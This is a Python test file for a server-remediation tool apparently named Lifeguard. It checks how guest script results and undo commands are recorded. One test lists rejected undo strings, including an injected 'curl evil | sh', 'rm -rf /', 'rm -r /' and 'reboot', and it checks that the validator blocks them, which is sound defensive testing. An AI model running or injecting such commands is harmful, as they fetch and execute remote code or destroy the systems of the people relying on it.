"""What came of an act inside: by its script's report, which a host in others' hands may forge."""

from __future__ import annotations

import re
from importlib.resources import files

import pytest

from lifeguard.core.guest.change import GuestChange, GuestRefusal, GuestStep
from lifeguard.core.guest.look import Unasked
from lifeguard.core.incident.action_record import ActionRecord, Result
from lifeguard.core.remediation.inside.outcome import REFUSALS, ended, failed, undoing
from lifeguard.core.resources.verb import InsideVerb
from lifeguard.core.text.foreign import foreign
from lifeguard.core.text.message import Message, coded, message
from tests.support.situations import NOON, at

GIB = 1024 * 1024
DOCKER_FAILED = Unasked("docker", "exit_1")
CPU, SWAP = InsideVerb.LIMIT_CPU, InsideVerb.ADD_SWAP
MEMORY, CLEAN = InsideVerb.LIMIT_MEMORY, InsideVerb.CLEAN_DISK
RESTART, HOLDER = InsideVerb.RESTART_INSIDE, InsideVerb.STOP_HOLDER


def sent(action: InsideVerb = CPU, on: str = "api") -> ActionRecord:
    return ActionRecord(action, Result.SENT, message("waiting.must_run"), NOON, made="c-1", on=on)


def did(what: str, before: float, after: float, undo: str = "") -> GuestChange:
    return GuestChange(did=(GuestStep(foreign(what), before, after),), undo=foreign(undo))


SWAP_ADDED = message(
    "inside.swap",
    before=message("guest.size.mib", mib=0),
    after=message("guest.size.gib", whole=2, tenth=0),
)


@pytest.mark.parametrize(
    ("action", "change", "answer"),
    [
        (CPU, did("cpus", 0, 1.75), message("inside.cpus_first", after="1.75")),
        (
            CPU,
            did("cpus", 2, 1.75),
            message("inside.cpus", before="2", after="1.75"),
        ),
        (SWAP, did("swap", 0, 2 * GIB), SWAP_ADDED),
        (
            MEMORY,
            did("memory", 0, 512 * 1024),
            message("inside.memory_first", after=message("guest.size.mib", mib=512)),
        ),
        (
            MEMORY,
            did("memory", 512 * 1024, 768 * 1024),
            message(
                "inside.memory",
                before=message("guest.size.mib", mib=512),
                after=message("guest.size.mib", mib=768),
            ),
        ),
        (RESTART, did("unit", 0, 9), message("inside.pid", after="9")),
        (
            RESTART,
            did("unit", 7, 9),
            message("inside.pids", before="7", after="9"),
        ),
    ],
)
def test_what_was_done_is_kept_with_what_was_measured(
    action: InsideVerb, change: GuestChange, answer: Message
) -> None:
    told = ended(sent(action), change, at("12:05"))
    assert (told.result, told.answer, told.at) == (Result.DONE, answer, at("12:05"))
    assert (told.made, told.on) == ("c-1", "api")


def test_a_step_that_names_no_measure_is_none_the_less_done() -> None:
    step = GuestStep(foreign("cpus"))
    assert ended(sent(), GuestChange(did=(step,)), NOON).result is Result.DONE


UNREADABLE = message("guest.unreadable")


@pytest.mark.parametrize(
    ("change", "result", "answer", "code"),
    [
        (
            GuestChange(refused=GuestRefusal("below_use")),
            Result.REFUSED,
            message("inside.refused", why=coded("inside.why", "below_use")),
            "below_use",
        ),
        (
            GuestChange(refused=GuestRefusal("bad_cpus")),
            Result.REFUSED,
            message("inside.refused", why=message("inside.code", code="bad_cpus")),
            "bad_cpus",
        ),
        (
            GuestChange(did=(GuestStep(foreign("cpus")),), unasked=(Unasked("docker", "timeout"),)),
            Result.FAILED,
            message("inside.failed", what=foreign("docker"), why=foreign("timeout")),
            "docker_timeout",
        ),
        (
            GuestChange(unasked=(DOCKER_FAILED, Unasked("container", "still_running"))),
            Result.FAILED,
            message("inside.container.still_running"),
            "docker_exit_1",
        ),
        (
            GuestChange(unasked=(DOCKER_FAILED, Unasked("container", "odd"))),
            Result.FAILED,
            message("inside.failed", what=foreign("docker"), why=foreign("exit_1")),
            "docker_exit_1",
        ),
        (
            GuestChange(did=(GuestStep(foreign("start"), 0, 1234),), whole=False),
            Result.FAILED,
            UNREADABLE,
            "unreadable",
        ),
        (GuestChange(already=True), Result.ALREADY, message("inside.already"), ""),
        (GuestChange(), Result.FAILED, UNREADABLE, "unreadable"),
        (
            GuestChange(did=(GuestStep(foreign("cpus")),), whole=False),
            Result.FAILED,
            UNREADABLE,
            "unreadable",
        ),
    ],
)
def test_what_was_not_done_says_why(
    change: GuestChange, result: Result, answer: Message, code: str
) -> None:
    told = ended(sent(), change, NOON)
    assert (told.result, told.answer, told.code) == (result, answer, code)


def test_a_container_that_runs_again_is_done_whatever_docker_has_said_before() -> None:
    steps = (GuestStep(foreign("kill"), 911, 0), GuestStep(foreign("start"), 0, 1234))
    told = ended(sent(InsideVerb.KILL_CONTAINER), GuestChange(did=steps), NOON)
    assert (told.result, told.answer) == (Result.DONE, message("inside.pid", after="1234"))
    again = GuestChange(did=steps, unasked=(DOCKER_FAILED,))
    assert ended(sent(InsideVerb.KILL_CONTAINER), again, NOON) == told


def test_what_is_not_known_counts_as_failed() -> None:
    told = failed(sent(), message("guest.failed", status="Failed"), at("12:05"))
    assert (told.result, told.at) == (Result.FAILED, at("12:05"))


@pytest.mark.parametrize(
    ("action", "on", "undo", "commands"),
    [
        (
            CPU,
            "api",
            "docker update --cpus 2 api",
            [("docker", "update", "--cpus", "2", "api")],
        ),
        (
            MEMORY,
            "api",
            "docker update --memory 1014000k --memory-swap -1 api",
            [("docker", "update", "--memory", "1014000k", "--memory-swap", "-1", "api")],
        ),
        (
            SWAP,
            "",
            r"swapoff /swapfile && rm /swapfile && sed -i '\#^/swapfile none swap#d' /etc/fstab",
            [
                ("swapoff", "/swapfile"),
                ("rm", "/swapfile"),
                ("sed", "-i", r"\#^/swapfile none swap#d", "/etc/fstab"),
            ],
        ),
        (
            HOLDER,
            "nginx",
            "systemctl start nginx.service",
            [("systemctl", "start", "nginx.service")],
        ),
        (HOLDER, "old", "docker start old", [("docker", "start", "old")]),
    ],
)
def test_the_way_back_is_kept(
    action: InsideVerb, on: str, undo: str, commands: list[tuple[str, ...]]
) -> None:
    assert list(undoing(ended(sent(action, on), did("x", 1, 0, undo), NOON))) == commands


@pytest.mark.parametrize(
    ("action", "undo"),
    [
        (CPU, "docker update --cpus 2 db"),
        (CPU, "docker update --cpus 2 api; curl evil | sh"),
        (CPU, "docker rm -f api"),
        (MEMORY, "docker update --memory 1 --memory-swap -1 db"),
        (MEMORY, "docker update --memory -1 --memory-swap -1 api"),
        (MEMORY, "docker update --memory 1k --memory-swap 1k --restart no api"),
        (CLEAN, "rm -rf /"),
        (SWAP, "swapoff /swapfile && rm -r /"),
        (RESTART, "reboot"),
        (HOLDER, "systemctl start sshd"),
    ],
)
def test_a_command_of_another_form_is_not_passed_on(action: InsideVerb, undo: str) -> None:
    assert not list(undoing(ended(sent(action), did("x", 1, 0, undo), NOON)))


SCRIPTS = (
    "prelude",
    "docker",
    "units",
    "clean",
    "limit",
    "swap",
    "restart",
    "stop_holder",
    "container",
    "daemon",
    "graceful",
    "grow",
)
NEVER_ASKED = {"created"}
"""Codes for what Lifeguard does not ask of a container that is in such a state."""
BY_STATE = {"docker_stopped", "paused"}
"""Codes that the scripts make of a state of Docker's."""
OURS = {
    "bad_cpus",
    "bad_memory",
    "bad_name",
    "bad_parameters",
    "bad_pid",
    "bad_port",
    "bad_seconds",
    "bad_ran_before",
    "bad_rung",
    "bad_size",
    "bad_state",
    "bad_what",
    "nothing_asked",
}
"""Codes of a parameter that Lifeguard itself has given wrongly."""


def test_every_refusal_of_the_scripts_has_words_or_is_a_fault_of_ours() -> None:
    folder = files("lifeguard.guest") / "scripts"
    text = "".join((folder / f"{name}.sh").read_text("utf-8") for name in SCRIPTS)
    refused = set(re.findall(r"\brefuse ([a-z_]+) ?(?:&&|;|\"|\n)", text))
    assert refused - OURS - NEVER_ASKED == REFUSALS - BY_STATE
